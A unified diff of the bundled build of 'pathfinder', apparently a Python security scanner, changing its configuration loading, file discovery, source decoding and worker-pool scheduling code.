-    if (ctx.p < toml.length && (tmp = toml.charCodeAt(ctx.p)) !== 10 && (tmp !== 13 || toml.charCodeAt(ctx.p + 1) !== 10)) {
-      TomlError.x("each key-value declaration must be followed by an end-of-line", ctx);
-    }
-    skipVoid(ctx);
-  }
-  return res;
-}
-
-// node_modules/smol-toml/dist/stringify.js
-var HAS_WELLFORMED = !!"".isWellFormed;
-
-// src/core/types.ts
-var SEVERITIES = ["critical", "high", "medium", "low"];
-
-// src/core/severity.ts
-function severityRank(s) {
-  return SEVERITIES.length - SEVERITIES.indexOf(s);
-}
-function isSeverity(s) {
-  return SEVERITIES.includes(s);
-}
-function atLeast(s, threshold) {
-  return severityRank(s) >= severityRank(threshold);
-}
-
-// src/project/errors.ts
-var UsageError = class extends Error {
-};
-
-// src/project/config.ts
-var ConfigError = class extends UsageError {
-};
-var CONFIG_FILE_NAMES = ["pathfinder.toml", ".pathfinder.toml"];
-var PYPROJECT = "pyproject.toml";
-var MAX_CONFIG_BYTES = 1024 * 1024;
-var TOP_LEVEL_KEYS = ["exclude", "disable", "rules"];
-var RULE_KEYS = ["extra-sinks", "severity"];
-var QUALIFIED_NAME = /^[A-Za-z_][A-Za-z0-9_]*(\.[A-Za-z_][A-Za-z0-9_]*)+$/;
-function loadConfig(lookup) {
-  if (lookup.disabled) return void 0;
-  if (lookup.explicit !== void 0) {
-    const file = resolve2(lookup.cwd, lookup.explicit);
-    const text = readConfigText(file);
-    if (basename(file) === PYPROJECT) {
-      const config = fromPyproject(text, file);
-      if (!config) throw new ConfigError(`configuration ${file} has no [tool.pathfinder] table`);
-      return config;
-    }
-    return parseConfig(text, file);
-  }
-  return discoverConfig(resolve2(lookup.cwd, lookup.project));
-}
-function discoverConfig(project) {
-  let dir = isDirectory(project) ? project : dirname2(project);
-  for (; ; ) {
-    for (const name2 of CONFIG_FILE_NAMES) {
-      const file = join3(dir, name2);
-      if (isFile(file)) return parseConfig(readConfigText(file), file);
-    }
-    const pyproject = join3(dir, PYPROJECT);
-    if (isFile(pyproject)) {
-      const text = readConfigText(pyproject);
-      if (text.includes("pathfinder")) {
-        const config = fromPyproject(text, pyproject);
-        if (config) return config;
-      }
-    }
-    const parent = dirname2(dir);
-    if (parent === dir) return void 0;
-    dir = parent;
-  }
-}
-function parseConfig(text, file) {
-  return validate(parseToml(text, file), file, "");
-}
-function fromPyproject(text, file) {
-  const doc = parseToml(text, file);
-  const tool = doc.tool;
-  if (!isTable(tool) || tool.pathfinder === void 0) return void 0;
-  if (!isTable(tool.pathfinder)) throw invalid(file, "tool.pathfinder", "must be a table");
-  return validate(tool.pathfinder, file, "tool.pathfinder.");
-}
-function parseToml(text, file) {
-  try {
-    return parse(text);
-  } catch (e) {
-    if (e instanceof TomlError) {
-      const reason2 = e.message.split("\n")[0].replace(/^Invalid TOML document:\s*/, "");
-      throw new ConfigError(`invalid configuration ${file}:${e.line}:${e.column}: TOML syntax error: ${reason2}`);
-    }
-    throw new ConfigError(`invalid configuration ${file}: ${e.message}`);
-  }
-}
-function validate(table, file, prefix) {
-  const config = { file, baseDir: dirname2(file), exclude: [], disable: [], rules: {} };
-  for (const [key, value] of Object.entries(table)) {
-    const path = prefix + key;
-    switch (key) {
-      case "exclude":
-        config.exclude = stringList(value, file, path).map((pattern, i2) => {
-          if (!pattern.trim()) throw invalid(file, `${path}[${i2}]`, "empty pattern");
-          return pattern;
-        });
-        break;
-      case "disable":
-        config.disable = stringList(value, file, path).map((id, i2) => ruleId(id, file, `${path}[${i2}]`));
-        break;
-      case "rules":
-        if (!isTable(value)) throw invalid(file, path, `must be a table of rule IDs, e.g. [${prefix}rules.PYTHON-LANG-SEC-040]`);
-        for (const [id, settings] of Object.entries(value)) {
-          const canonical = ruleId(id, file, `${path}.${id}`);
-          config.rules[canonical] = ruleSettings(settings, file, `${path}.${id}`, isArtifactRule(canonical));
-        }
-        break;
-      default:
-        throw invalid(file, path, unknownKey(key, TOP_LEVEL_KEYS));
-    }
-  }
-  return config;
-}
-function ruleSettings(value, file, path, artifactRule2) {
-  if (!isTable(value)) throw invalid(file, path, `must be a table (keys: ${RULE_KEYS.join(", ")})`);
-  const out2 = {};
-  for (const [key, v] of Object.entries(value)) {
-    const keyPath = `${path}.${key}`;
-    if (key === "extra-sinks") {
-      if (artifactRule2) throw invalid(file, keyPath, "extra sinks apply to Python rules only; artifact rules have no sinks");
-      out2.extraSinks = stringList(v, file, keyPath).map((name2, i2) => {
-        if (!QUALIFIED_NAME.test(name2)) {
-          throw invalid(file, `${keyPath}[${i2}]`, `"${name2}" is not a dotted qualified name such as "myapp.cache.load_blob"`);
-        }
-        return name2;
-      });
-    } else if (key === "severity") {
-      if (typeof v !== "string") throw invalid(file, keyPath, `must be a string (${SEVERITIES.join(", ")}), not ${typeName(v)}`);
-      const severity = v.toLowerCase();
-      if (!isSeverity(severity)) throw invalid(file, keyPath, `unknown severity "${v}" (use ${SEVERITIES.join(", ")})`);
-      out2.severity = severity;
-    } else {
-      throw invalid(file, keyPath, unknownKey(key, RULE_KEYS));
-    }
-  }
-  return out2;
-}
-function knownRuleIds() {
-  return [...PYTHON_RULES, ...ARTIFACT_RULES].map((r) => r.id);
-}
-function isArtifactRule(id) {
-  return ARTIFACT_RULES.some((r) => r.id === id);
-}
-function ruleId(id, file, path) {
-  const bare = id.replace(/^(python|artifact)\//i, "");
-  const known = knownRuleIds().find((k) => k.toUpperCase() === bare.toUpperCase());
-  if (known) return known;
-  const suggestion = closest(bare, knownRuleIds());
-  throw invalid(file, path, `unknown rule ID "${id}"${suggestion ? `; did you mean "${suggestion}"?` : ""} (see: pathfinder rules list)`);
-}
-function stringList(value, file, path) {
-  if (!Array.isArray(value)) throw invalid(file, path, `must be an array of strings, not ${typeName(value)}`);
-  value.forEach((item, i2) => {
-    if (typeof item !== "string") throw invalid(file, `${path}[${i2}]`, `must be a string, not ${typeName(item)}`);
-  });
-  return value;
-}
-function unknownKey(key, known) {
-  const suggestion = closest(key, known);
-  return `unknown key${suggestion ? `; did you mean "${suggestion}"?` : ""} (known keys: ${known.join(", ")})`;
-}
-function invalid(file, key, reason2) {
-  return new ConfigError(`invalid configuration ${file}: ${key}: ${reason2}`);
-}
-function typeName(v) {
-  if (Array.isArray(v)) return "an array";
-  if (isTable(v)) return "a table";
-  if (typeof v === "string") return "a string";
-  if (typeof v === "number" || typeof v === "bigint") return "a number";
-  if (typeof v === "boolean") return "a boolean";
-  return "a date";
-}
-function isTable(v) {
-  return typeof v === "object" && v !== null && !Array.isArray(v) && !(v instanceof Date);
-}
-function readConfigText(file) {
-  let size;
-  try {
-    size = statSync(file).size;
-  } catch (e) {
-    throw new ConfigError(`cannot read configuration file ${file}: ${e.code ?? e.message}`);
-  }
-  if (size > MAX_CONFIG_BYTES) throw new ConfigError(`configuration file ${file} is over ${MAX_CONFIG_BYTES / 1024} KB; refusing to read it`);
-  try {
-    return readFileSync(file, "utf8").replace(/^\uFEFF/, "");
-  } catch (e) {
-    throw new ConfigError(`cannot read configuration file ${file}: ${e.code ?? e.message}`);
-  }
-}
-function isFile(path) {
-  try {
-    return statSync(path).isFile();
-  } catch {
-    return false;
-  }
-}
-function isDirectory(path) {
-  try {
-    return statSync(path).isDirectory();
-  } catch {
-    return false;
-  }
-}
-function configExcluder(config) {
-  if (!config?.exclude.length) return () => false;
-  const names = config.exclude.filter((p) => !p.includes("/"));
-  const paths = config.exclude.filter((p) => p.includes("/"));
-  const matchesName = names.length ? (0, import_picomatch.default)(names, { dot: true }) : () => false;
-  const matchesPath = paths.length ? (0, import_picomatch.default)(paths, { dot: true }) : () => false;
-  return (absPath) => {
-    const native = relative(config.baseDir, absPath);
-    if (!native || isAbsolute(native) || native === ".." || native.startsWith(".." + sep)) return false;
-    const parts2 = native.split(sep);
-    for (let i2 = 1; i2 <= parts2.length; i2++) {
-      const path = parts2.slice(0, i2).join("/");
-      if (matchesName(parts2[i2 - 1]) || matchesPath(path) || i2 < parts2.length && matchesPath(path + "/")) return true;
-    }
-    return false;
-  };
-}
-function prunableExcludes(config) {
-  return config?.exclude.filter((p) => !p.includes("/")) ?? [];
-}
-
-// src/project/discover.ts
-var import_ignore = __toESM(require_ignore(), 1);
-var import_picomatch2 = __toESM(require_picomatch2(), 1);
-import { lstat, open as open2, readdir, readFile as readFile2, realpath, stat } from "node:fs/promises";
-import { basename as basename2, join as join4, relative as relative2, resolve as resolve3, sep as sep2 } from "node:path";
-var DEFAULT_EXCLUDED_DIRS = /* @__PURE__ */ new Set([
-  ".git",
-  ".hg",
-  ".svn",
-  "node_modules",
-  "__pycache__",
-  ".venv",
-  "venv",
-  ".env",
-  "env",
-  ".tox",
-  ".nox",
-  "site-packages",
-  "dist-packages",
-  ".mypy_cache",
-  ".pytest_cache",
-  ".ruff_cache",
-  ".eggs",
-  "build",
-  "dist",
-  ".idea",
-  ".vscode",
-  ".pathfinder-cache"
-]);
-var PYTHON_EXTENSIONS = [".py", ".pyw"];
-var TEST_FILE = /(^|\/)(test_[^/]*\.py|[^/]*_test\.py|conftest\.py)$/;
-var TEST_DIR = /(^|\/)(tests?|testing)(\/|$)/;
-async function discover(root, options) {
-  const absRoot = resolve3(root);
-  const files = [];
-  const errors = [];
-  const isIncluded = options.include.length ? (0, import_picomatch2.default)(options.include, { dot: true }) : () => true;
-  const isExcluded = options.exclude.length ? (0, import_picomatch2.default)(options.exclude, { dot: true }) : () => false;
-  const bareNames = options.exclude.filter((p) => !p.replace(/\/+$/, "").includes("/"));
-  const isExcludedName = bareNames.length ? (0, import_picomatch2.default)(bareNames, { dot: true }) : () => false;
-  const excludedPath = (rel) => isExcluded(rel) || isExcludedName(basename2(rel));
-  const rootStat = await stat(absRoot);
-  if (!rootStat.isDirectory()) {
-    const rel = basename2(absRoot);
-    files.push({ absPath: absRoot, relPath: rel, size: rootStat.size, kind: await classify2(absRoot, rel) });
-    return { files, errors };
-  }
-  const stack = [{ dir: absRoot, ignores: [], ancestors: /* @__PURE__ */ new Set() }];
-  while (stack.length) {
-    const { dir, ignores: inherited, ancestors } = stack.pop();
-    let real;
-    try {
-      real = await realpath(dir);
-    } catch (e) {
-      errors.push(problem(absRoot, dir, "unreadable", `cannot resolve directory: ${reason(e)}`));
-      continue;
-    }
-    if (ancestors.has(real)) {
-      errors.push(problem(absRoot, dir, "symlink-loop", "symbolic link loop: directory links back to one of its parents; skipped"));
-      continue;
-    }
-    const lineage = new Set(ancestors).add(real);
-    let entries;
-    try {
-      entries = await readdir(dir, { withFileTypes: true });
-    } catch (e) {
-      errors.push(problem(absRoot, dir, "unreadable", `cannot read directory: ${reason(e)}`));
-      continue;
-    }
-    const ignores = options.gitignore ? await withGitignore(dir, inherited) : inherited;
-    entries.sort((a, b) => a.name < b.name ? -1 : a.name > b.name ? 1 : 0);
-    for (const entry of entries) {
-      const abs = join4(dir, entry.name);
-      const rel = toPosix(relative2(absRoot, abs));
-      let isDir = entry.isDirectory();
-      let isFile2 = entry.isFile();
-      let size = 0;
-      if (entry.isSymbolicLink()) {
-        try {
-          const target = await stat(abs);
-          isDir = target.isDirectory();
-          isFile2 = target.isFile();
-          size = target.size;
-        } catch (e) {
-          const loop = e.code === "ELOOP";
-          errors.push(problem(absRoot, abs, loop ? "symlink-loop" : "unreadable", loop ? "symbolic link loop; skipped" : `broken symbolic link: ${reason(e)}`));
-          continue;
-        }
-      }
-      if (isDir) {
-        if (DEFAULT_EXCLUDED_DIRS.has(entry.name) || excludedPath(rel) || excludedPath(rel + "/")) continue;
-        if (isIgnored(ignores, abs, true)) continue;
-        if (options.skipTests && TEST_DIR.test(rel)) continue;
-        stack.push({ dir: abs, ignores, ancestors: lineage });
-      } else if (isFile2) {
-        if (excludedPath(rel) || !isIncluded(rel) || isIgnored(ignores, abs, false)) continue;
-        if (options.skipTests && (TEST_FILE.test(rel) || TEST_DIR.test(rel))) continue;
-        if (!size) {
-          try {
-            size = (await lstat(abs)).size;
-          } catch (e) {
-            errors.push(problem(absRoot, abs, "unreadable", `cannot stat file: ${reason(e)}`));
-            continue;
-          }
-        }
-        files.push({ absPath: abs, relPath: rel, size, kind: await classify2(abs, rel) });
-      }
-    }
-  }
-  files.sort((a, b) => a.relPath < b.relPath ? -1 : a.relPath > b.relPath ? 1 : 0);
-  return { files, errors };
-}
-async function classify2(abs, rel) {
-  const lower = rel.toLowerCase();
-  if (PYTHON_EXTENSIONS.some((e) => lower.endsWith(e))) return "python";
-  if (basename2(rel).includes(".")) return "other";
-  try {
-    const head = (await readFileHead(abs, 128)).toString("latin1");
-    if (/^#!.*\bpython[0-9.]*\b/.test(head)) return "python";
-  } catch {
-  }
-  return "other";
-}
-async function readFileHead(abs, bytes) {
-  const fh = await open2(abs, "r");
-  try {
-    const buf = Buffer.alloc(bytes);
-    const { bytesRead } = await fh.read(buf, 0, bytes, 0);
-    return buf.subarray(0, bytesRead);
-  } finally {
-    await fh.close();
-  }
-}
-async function withGitignore(dir, inherited) {
-  let text;
-  try {
-    text = await readFile2(join4(dir, ".gitignore"), "utf8");
-  } catch {
-    return inherited;
-  }
-  return [...inherited, { base: dir, rules: (0, import_ignore.default)().add(text) }];
-}
-function isIgnored(ignores, abs, isDir) {
-  for (const { base, rules } of ignores) {
-    const rel = toPosix(relative2(base, abs));
-    if (!rel || rel.startsWith("..")) continue;
-    if (rules.ignores(isDir ? rel + "/" : rel)) return true;
-  }
-  return false;
-}
-function problem(root, abs, kind, message15) {
-  return { file: toPosix(relative2(root, abs)) || ".", kind, level: "warning", message: message15 };
-}
-function reason(e) {
-  const err2 = e;
-  return err2.code ? `${err2.code} ${err2.message.replace(/^[A-Z]+: /, "")}` : String(e);
-}
-function toPosix(p) {
-  return sep2 === "/" ? p : p.split(sep2).join("/");
-}
-
-// src/project/module-name.ts
-function moduleNameOf(relPath) {
-  const parts2 = relPath.replace(/\.pyw?$/i, "").split("/");
-  let start2 = 0;
-  for (let i2 = parts2.length - 1; i2 >= 0; i2--) {
-    if (!/^[A-Za-z_][A-Za-z0-9_]*$/.test(parts2[i2])) {
-      start2 = i2 + 1;
-      break;
-    }
-  }
-  return parts2.slice(start2).join(".");
-}
-
-// src/project/read-source.ts
-var CODING_COOKIE = /^[ \t\f]*#.*?coding[:=][ \t]*([-\w.]+)/;
-function decodePython(bytes, relPath, maxBytes) {
-  if (bytes.length > maxBytes) return { ok: false, error: tooLarge(relPath, bytes.length, maxBytes) };
-  if (looksBinary(bytes)) {
-    return { ok: false, error: warn(relPath, "binary", "binary content (NUL bytes) in a Python file; skipped") };
-  }
-  const decoder = declaredDecoder(bytes);
-  if (decoder) return { ok: true, source: decoder.decode(bytes) };
-  try {
-    return { ok: true, source: new TextDecoder("utf-8", { fatal: true }).decode(bytes) };
-  } catch {
-    return {
-      ok: true,
-      source: new TextDecoder("utf-8").decode(bytes),
-      warning: warn(relPath, "encoding", "file is not valid UTF-8; invalid bytes were replaced and the rest was scanned")
-    };
-  }
-}
-function declaredDecoder(bytes) {
-  const encoding = declaredEncoding(bytes);
-  return encoding && !/^utf[-_]?8([-_]sig)?$/i.test(encoding) ? decoderFor(encoding) : void 0;
-}
-function decoderFor(codec) {
-  for (const label of [codec, codec.replace(/_/g, "-"), codec.replace(/[-_]/g, "")]) {
-    try {
-      return new TextDecoder(label);
-    } catch {
-    }
-  }
-  return void 0;
-}
-function looksBinary(bytes) {
-  const n = Math.min(bytes.length, 8192);
-  for (let i2 = 0; i2 < n; i2++) if (bytes[i2] === 0) return true;
-  return false;
-}
-function declaredEncoding(bytes) {
-  const head = new TextDecoder("latin1").decode(bytes.subarray(0, 400)).split(/\r?\n/, 2);
-  for (const line of head) {
-    const m = CODING_COOKIE.exec(line);
-    if (m) return m[1];
-    if (!/^[ \t\f]*(#.*)?$/.test(line)) break;
-  }
-  return void 0;
-}
-function tooLarge(relPath, size, maxBytes) {
-  return warn(relPath, "too-large", `file is ${formatBytes(size)}, over the ${formatBytes(maxBytes)} limit (--max-file-size); skipped`);
-}
-function warn(file, kind, message15) {
-  return { file, kind, level: "warning", message: message15 };
-}
-function formatBytes(n) {
-  if (n >= 1024 * 1024) return `${(n / (1024 * 1024)).toFixed(1)} MB`;
-  if (n >= 1024) return `${(n / 1024).toFixed(1)} KB`;
-  return `${n} B`;
-}
-
 // src/project/worker-pool.ts
-import { Worker } from "node:worker_threads";
+var WORKER_YOUNG_GENERATION_MB = 16;
 var IN_FLIGHT_PER_WORKER = 2;
-async function sharedQueueAnalyzer(spec, rules, workerCount) {
+async function sharedQueueAnalyzer(spec, rules, options) {
   const url = new URL("./worker.js", import.meta.url);
   const queue = [];
+  let queuedChars = 0;
   let sorted = true;
   let nextId = 0;
   let localBusy = false;
+  let localReady = options.localStartsAfter === void 0;
   let pumpScheduled = false;
   const parser = await loadPythonParser();
   const index = new SinkIndex(rules);
-  const slots = Array.from({ length: workerCount }, () => {
-    const slot = { worker: new Worker(url, { workerData: { spec } }), running: /* @__PURE__ */ new Map() };
-    slot.worker.on("message", (msg) => {
+  const slots = [];
+  const startWorker = () => {
+    const worker = new Worker(url, { workerData: { spec }, resourceLimits: { maxYoungGenerationSizeMb: WORKER_YOUNG_GENERATION_MB } });
+    const slot2 = { worker, running: /* @__PURE__ */ new Map() };
+    slots.push(slot2);
+    slot2.worker.on("message", (msg) => {
       if (msg.id === void 0) return;
-      const job = slot.running.get(msg.id);
-      slot.running.delete(msg.id);
+      const job = slot2.running.get(msg.id);
+      slot2.running.delete(msg.id);
       job?.resolve(msg.result);
       pump();
     });
     const fail = (e) => {
-      if (slot.failure) return;
-      slot.failure = e;
-      for (const job of slot.running.values()) queue.push(job);
-      slot.running.clear();
-      sorted = false;
+      if (slot2.failure) return;
+      slot2.failure = e;
+      for (const job of slot2.running.values()) enqueue(job);
+      slot2.running.clear();
       pump();
     };
-    slot.worker.on("error", fail);
-    slot.worker.on("exit", (code3) => code3 !== 0 && fail(new Error(`analysis worker exited with code ${code3}`)));
-    return slot;
-  });
+    slot2.worker.on("error", fail);
+    slot2.worker.on("exit", (code3) => code3 !== 0 && fail(new Error(`analysis worker exited with code ${code3}`)));
+  };
+  const enqueue = (job) => {
+    queue.push(job);
+    queuedChars += job.file.source.length;
+    sorted = false;
+    while (slots.length < options.maxWorkers && queuedChars >= options.startWhenQueued) startWorker();
+  };
+  const take = (job) => {
+    if (job) queuedChars -= job.file.source.length;
+    return job;
+  };
+  if (options.startWhenQueued === 0) while (slots.length < options.maxWorkers) startWorker();
+  const startLocal = () => {
+    localReady = true;
+    pump();
+  };
+  options.localStartsAfter?.then(startLocal, startLocal);
   function pump() {
     if (!sorted) {
       queue.sort((a, b) => b.file.source.length - a.file.source.length);
       sorted = true;
     }
-    for (const slot of slots) {
-      while (!slot.failure && slot.running.size < IN_FLIGHT_PER_WORKER && queue.length) {
-        const job = queue.shift();
+    for (const slot2 of slots) {
+      while (!slot2.failure && slot2.running.size < IN_FLIGHT_PER_WORKER && queue.length) {
+        const job = take(queue.shift());
         const id = nextId++;
-        slot.running.set(id, job);
-        slot.worker.postMessage({ id, file: job.file });
+        slot2.running.set(id, job);
+        slot2.worker.postMessage({ id, file: job.file });
       }
     }
-    if (!localBusy && queue.length) {
+    if (localReady && !localBusy && queue.length) {
       localBusy = true;
       setImmediate(runLocal);
     }
   }
   function runLocal() {
-    const job = queue.pop();
+    const job = take(queue.pop());
     if (job) job.resolve(analyzeSafely(() => analyzePython(parser, job.file, index), job.file.path));
     localBusy = false;
     pump();
@@ -17515,8 +18565,7 @@ async function sharedQueueAnalyzer(spec, rules, workerCount) {
   return {
     analyze(file) {
       return new Promise((resolve9) => {
-        queue.push({ file, resolve: resolve9 });
-        sorted = false;
+        enqueue({ file, resolve: resolve9 });
         if (!pumpScheduled) {
           pumpScheduled = true;
           queueMicrotask(() => {
@@ -17533,8 +18582,6 @@ async function sharedQueueAnalyzer(spec, rules, workerCount) {
 }
 
 // src/project/scan.ts
-var WORKER_THRESHOLD_BYTES = 2 * 1024 * 1024;
-var READ_CONCURRENCY = 32;
 async function scanProject(options) {
   const started = Date.now();
   const config = options.config;
@@ -17558,40 +18605,44 @@ async function scanProject(options) {
     throw new UsageError(`cannot scan "${options.target}": ${e.code === "ENOENT" ? "no such file or directory" : e.message}`);
   }
   const excluded = configExcluder(config);
-  const root = (await stat2(target)).isDirectory() ? target : dirname3(target);
+  const root = (await stat(target)).isDirectory() ? target : dirname3(target);
   const errors = discovery.errors.filter((e) => !excluded(join5(root, e.file)));
   const findings = [];
   const pythonFiles = rules.length > 0 ? discovery.files.filter((f) => f.kind === "python" && !excluded(f.absPath)) : [];
-  const artifactScan = artifactRules.length > 0 ? scanArtifactFiles(discovery.files.filter((f) => f.kind === "other" && !excluded(f.absPath)), options.pickle ?? {}) : void 0;
-  const candidates = await readCandidates(pythonFiles, rules, options.maxFileSize, errors, options.onSourceRead);
-  const analyzer = await chooseAnalyzer(spec, rules, candidates, options.jobs);
-  let done = 0;
+  let ownWorkDone;
+  const localStartsAfter = new Promise((resolve9) => ownWorkDone = resolve9);
+  const pythonBytes = pythonFiles.reduce((n, f) => n + Math.min(f.size, options.maxFileSize), 0);
+  const analyzer = await sharedQueueAnalyzer(spec, rules, { ...poolOptions(options.jobs, pythonBytes), localStartsAfter });
+  let artifacts;
   try {
-    const results = await Promise.all(
-      candidates.map(async (c) => {
-        const result2 = await analyzer.analyze({ path: c.file.relPath, source: c.source, moduleName: moduleNameOf(c.file.relPath) });
-        options.onProgress?.(++done, candidates.length);
-        return result2;
-      })
-    );
-    for (const r of results) {
+    const analyses = [];
+    let done = 0;
+    const progress = () => options.onProgress?.(++done, pythonFiles.length);
+    await readCandidates(pythonFiles, prefilterTokens(rules), options.maxFileSize, errors, options.onSourceRead, progress, (c) => {
+      const analysis = analyzer.analyze({ path: c.file.relPath, source: c.source, moduleName: moduleNameOf(c.file.relPath) });
+      analyses.push(analysis.finally(progress));
+    });
+    if (artifactRules.length > 0) {
+      const artifactFiles = discovery.files.filter((f) => f.kind === "other" && !excluded(f.absPath));
+      artifacts = await scanArtifactFiles(artifactFiles, options.pickle ?? {});
+    }
+    ownWorkDone();
+    for (const r of await Promise.all(analyses)) {
       findings.push(...r.findings);
       errors.push(...r.errors);
     }
   } finally {
+    ownWorkDone();
     await analyzer.close();
   }
-  let artifactsScanned = 0;
-  if (artifactScan) {
+  if (artifacts) {
     const enabled = new Set(artifactRules.map((r) => r.id));
-    const artifacts = await artifactScan;
     for (const f of artifacts.findings) {
       if (!enabled.has(f.ruleId)) continue;
       const severity = config?.rules[f.ruleId]?.severity;
       findings.push(severity ? { ...f, severity } : f);
     }
     errors.push(...artifacts.errors);
-    artifactsScanned = artifacts.scanned;
   }
   findings.sort(compareFindings);
   errors.sort(compareErrors);
@@ -17602,54 +18653,59 @@ async function scanProject(options) {
       timestamp: new Date(started).toISOString(),
       durationMs: Date.now() - started,
       rulesExecuted: [...rules.map((r) => r.id), ...artifactRules.map((r) => r.id)],
-      filesScanned: pythonFiles.length + artifactsScanned
+      filesScanned: pythonFiles.length + (artifacts?.scanned ?? 0)
     },
     rules: [...rules.map(ruleMeta), ...artifactRules],
     findings,
     errors
   };
 }
-async function readCandidates(files, rules, maxBytes, errors, onSourceRead) {
-  const tokens = [...new Set(rules.flatMap((r) => r.prefilter))].map((t) => Buffer.from(t, "utf8"));
-  const out2 = new Array(files.length);
-  let next = 0;
-  const worker = async () => {
-    for (let i2 = next++; i2 < files.length; i2 = next++) {
-      const file = files[i2];
-      if (file.size > maxBytes) {
-        errors.push(tooLarge(file.relPath, file.size, maxBytes));
-        continue;
-      }
-      let bytes;
-      try {
-        bytes = await readFile3(file.absPath);
-      } catch (e) {
-        const err2 = e;
-        errors.push({ file: file.relPath, kind: "unreadable", level: "warning", message: `cannot read file: ${err2.code ?? err2.message}` });
-        continue;
-      }
-      if (!tokens.some((t) => bytes.includes(t)) && !mayImportDynamically(bytes)) continue;
-      const decoded = decodePython(bytes, file.relPath, maxBytes);
-      if (!decoded.ok) {
-        errors.push(decoded.error);
-        continue;
-      }
-      if (decoded.warning) errors.push(decoded.warning);
-      onSourceRead?.(file, bytes);
-      out2[i2] = { file, source: decoded.source };
-    }
+var READ_BATCH = 32;
+async function readCandidates(files, tokens, maxBytes, errors, onSourceRead, onSkipped, onCandidate) {
+  const anyToken = new RegExp(tokens.map((t) => escapeRegExp(Buffer.from(t, "utf8").toString("latin1"))).join("|"));
+  for (let i2 = 0; i2 < files.length; i2++) {
+    if (i2 % READ_BATCH === READ_BATCH - 1) await new Promise((resolve9) => setImmediate(resolve9));
+    const file = files[i2];
+    const candidate = readCandidate(file, anyToken, maxBytes, errors, onSourceRead);
+    if (candidate) onCandidate(candidate);
+    else onSkipped();
+  }
+}
+function readCandidate(file, anyToken, maxBytes, errors, onSourceRead) {
+  if (file.size > maxBytes) {
+    errors.push(tooLarge(file.relPath, file.size, maxBytes));
+    return void 0;
+  }
+  let bytes;
+  try {
+    bytes = readFileSync3(file.absPath);
+  } catch (e) {
+    const err2 = e;
+    errors.push({ file: file.relPath, kind: "unreadable", level: "warning", message: `cannot read file: ${err2.code ?? err2.message}` });
+    return void 0;
+  }
+  const latin13 = bytes.toString("latin1");
+  if (!anyToken.test(latin13) && !hasComputedDynamicImport(latin13)) return void 0;
+  const decoded = decodePython(bytes, file.relPath, maxBytes);
+  if (!decoded.ok) {
+    errors.push(decoded.error);
+    return void 0;
+  }
+  if (decoded.warning) errors.push(decoded.warning);
+  onSourceRead?.(file, bytes);
+  return { file, source: decoded.source };
+}
+function escapeRegExp(text) {
+  return text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
+}
+var START_WORKERS_WHEN_QUEUED = 1024 * 1024;
+var START_WORKERS_AT_ONCE = 4 * 1024 * 1024;
+function poolOptions(jobs, pythonBytes) {
+  if (jobs !== void 0) return { maxWorkers: jobs, startWhenQueued: 0 };
+  return {
+    maxWorkers: Math.max(0, Math.min(availableParallelism() - 1, 8)),
+    startWhenQueued: pythonBytes >= START_WORKERS_AT_ONCE ? 0 : START_WORKERS_WHEN_QUEUED
   };
-  await Promise.all(Array.from({ length: Math.min(READ_CONCURRENCY, files.length) }, worker));
-  return out2.filter((c) => c !== void 0);
-}
-var DYNAMIC_IMPORT_TOKENS = [Buffer.from("__import__"), Buffer.from("import_module")];
-function mayImportDynamically(bytes) {
-  return DYNAMIC_IMPORT_TOKENS.some((t) => bytes.includes(t)) && hasComputedDynamicImport(bytes.toString("latin1"));
-}
-async function chooseAnalyzer(spec, rules, candidates, jobs) {
-  const bytes = candidates.reduce((n, c) => n + c.source.length, 0);
-  const size = jobs ?? (bytes >= WORKER_THRESHOLD_BYTES ? Math.max(1, Math.min(availableParallelism() - 1, 8)) : 0);
-  return size > 0 ? sharedQueueAnalyzer(spec, rules, size) : inProcessAnalyzer(rules);
 }
 
 // src/ci/command.ts
@@ -18389,7 +19445,7 @@ ${rule.docs.references.map((r) => `- ${r.title}: ${r.url}`).join("\n")}`);
   return parts2.join("\n\n");
 }
 function fenced(code3, language) {
-  const longestRun = Math.max(0, ...(code3.match(/`+/g) ?? []).map((run3) => run3.length));
+  const longestRun = Math.max(0, ...(code3.match(/`+/g) ?? []).map((run4) => run4.length));
   const fence = "`".repeat(Math.max(3, longestRun + 1));
   return `${fence}${language}
 ${code3}
@@ -18446,16 +19502,16 @@ function toSarifLog(report) {
   if (informationUri) driver.informationUri = informationUri;
   if (SEMVER.test(report.tool.version)) driver.semanticVersion = report.tool.version;
   driver.rules = descriptors;
-  const run3 = {
+  const run4 = {
     tool: { driver },
     invocations: [invocation(report)]
   };
   if (isAbsolutePath(report.scan.target)) {
-    run3.originalUriBaseIds = { [SRCROOT]: { uri: directoryFileUri(report.scan.target) } };
+    run4.originalUriBaseIds = { [SRCROOT]: { uri: directoryFileUri(report.scan.target) } };
   }
-  run3.results = report.findings.map((f) => result(f, ruleIndex.get(f.ruleId)));
-  run3.columnKind = "utf16CodeUnits";
-  return { $schema: SARIF_SCHEMA_URI, version: "2.1.0", runs: [run3] };
+  run4.results = report.findings.map((f) => result(f, ruleIndex.get(f.ruleId)));
+  run4.columnKind = "utf16CodeUnits";
+  return { $schema: SARIF_SCHEMA_URI, version: "2.1.0", runs: [run4] };
 }
 function renderSarif(report) {
   return JSON.stringify(toSarifLog(report), null, 2) + "\n";
@@ -18654,9 +19710,9 @@ function painter(color) {
   return {
     paint(text, ...styles) {
       if (text === "" || styles.length === 0) return text;
-      const open3 = styles.map((s) => `${ESC}${STYLE_CODES[s][0]}m`).join("");
+      const open = styles.map((s) => `${ESC}${STYLE_CODES[s][0]}m`).join("");
       const close = styles.map((s) => `${ESC}${STYLE_CODES[s][1]}m`).reverse().join("");
-      return open3 + text + close;
+      return open + text + close;
     }
   };
 }
@@ -18889,13 +19945,13 @@ function renderReport(format, report, options) {
 }
 
 // src/cli/commands/scan.ts
-import { readFileSync as readFileSync3, statSync as statSync2 } from "node:fs";
+import { readFileSync as readFileSync5, statSync as statSync3 } from "node:fs";
 import { join as join7 } from "node:path";
 import { parseArgs } from "node:util";
 
 // src/project/fix.ts
 import { createHash } from "node:crypto";
-import { readFile as readFile4, stat as stat3, writeFile as writeFile2 } from "node:fs/promises";
+import { readFile as readFile2, stat as stat2, writeFile as writeFile2 } from "node:fs/promises";
 import { basename as basename3, isAbsolute as isAbsolute2, relative as relative3, resolve as resolve5 } from "node:path";
 
 // src/project/unified-diff.ts
@@ -19033,7 +20089,7 @@ async function applyFixes(findings, options) {
     byFile.set(f.location.file, list);
   }
   const target = resolve5(options.target);
-  const targetIsDir = (await stat3(target)).isDirectory();
+  const targetIsDir = (await stat2(target)).isDirectory();
   const diffs = [];
